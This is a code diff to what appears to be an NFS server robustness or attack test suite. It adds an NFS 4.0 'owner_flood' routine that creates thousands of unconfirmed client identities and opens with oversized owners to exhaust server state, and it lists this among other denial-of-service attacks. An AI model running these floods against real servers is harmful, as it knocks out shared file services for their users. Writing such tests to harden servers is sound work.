@@ -27,6 +27,7 @@ MUTATIONS = 400
 HALF_OPEN = 100
 FLOOD_CLIENTS = 20_000
 FLOOD_SESSIONS = 2_000
+FLOOD_OWNERS = 5_000
 CLIENTS_OF_ONE_ADDRESS = 1024
 SESSIONS_OF_ONE = 40
 HOARDED_OPENS = 20_000
@@ -41,6 +42,7 @@ AT_ONCE = 64
 
 ILLEGAL_COUNTS = (65, 5_000, 0xFFFFFFFF)
 LOOKUP_PARENT, READ_LINK, RESTOREFH = 16, 27, 31
+SETCLIENTID, SETCLIENTID_CONFIRM = 35, 36
 READDIR_3, READDIRPLUS_3 = 16, 17
 READ_LOCK, WRITE_LOCK = 1, 2
 MOUNT_PROGRAM = 100_005
@@ -134,6 +136,15 @@ class Attacker:
         status = reader.u32()
         reader.opaque()
         reader.fixed(8 if reader.u32() else 0)
+        return status, reader
+
+    def ask_without_session(self, operations: Sequence[Operation]) -> tuple[int, Reader]:
+        """A compound of NFS 4.0: its status, and the results of its operations."""
+        self.send(compound(operations, 0))
+        reader = self.result()
+        status = reader.u32()
+        reader.opaque()
+        reader.u32()
         return status, reader
 
     def introduce(self, owner: bytes) -> tuple[int, int]:
@@ -297,6 +308,34 @@ def client_flood(place: NfsPlace) -> str:
     return f"{FLOOD_CLIENTS} identities, {begun} of {FLOOD_SESSIONS} sessions begun, {refused} refused"
 
 
+def _set_client(owner: bytes) -> Operation:
+    return SETCLIENTID, bytes(8) + opaque(owner) + u32(0x40000000) + opaque(b"tcp") + opaque(b"0.0.0.0.0.0") + u32(1)
+
+
+def owner_flood(place: NfsPlace) -> str:
+    """At NFS 4.0: clients without end that never confirm what they are, and owners without end that never confirm what they open."""
+    with Attacker(place, b"owners") as attacker:
+        folder = attacker.folder()
+        for first in range(0, FLOOD_CLIENTS, AT_ONCE):
+            for number in range(first, first + AT_ONCE):
+                attacker.send(compound([_set_client(b"flood-%d" % number)], 0))
+            for _ in range(AT_ONCE):
+                attacker.result()
+        status, reader = attacker.ask_without_session([_set_client(b"owners")])
+        _expect(status == nfs.OK, f"SETCLIENTID was answered with {status}")
+        reader.fixed(8)
+        client, confirmation = reader.u64(), reader.fixed(8)
+        status, _ = attacker.ask_without_session([(SETCLIENTID_CONFIRM, u64(client) + confirmation)])
+        _expect(status == nfs.OK, f"SETCLIENTID_CONFIRM was answered with {status}")
+        opened = absent = 0
+        for number in range(FLOOD_OWNERS):
+            for name, make in ((b"file", True), (b"absent", False)):
+                owner = b"%b-%d" % (name, number) + bytes(900)
+                status, _ = attacker.ask_without_session([*nfs.lookups(folder), nfs.open_file(client, name, make, owner=owner)])
+                opened, absent = opened + (status == nfs.OK), absent + (status == nfs.NOENT)
+    return f"{FLOOD_CLIENTS} identities, {FLOOD_OWNERS} owners: {opened} opens that wait, {absent} of nothing"
+
+
 def lease_hoarders(place: NfsPlace) -> str:
     """One client with as many sessions, kept answers, opens and owners as it gets."""
     with Attacker(place, b"hoarder") as attacker:
@@ -421,6 +460,7 @@ ATTACKS = (
     ("NFS records without an end", record_marks),
     ("NFS compounds without an end", endless_compounds),
     ("NFS clients without number", client_flood),
+    ("NFS 4.0 owners without number", owner_flood),
     ("NFS lease hoarders", lease_hoarders),
     ("NFS locks without number", lock_flood),
     ("NFS links in rings", symlink_bombs),
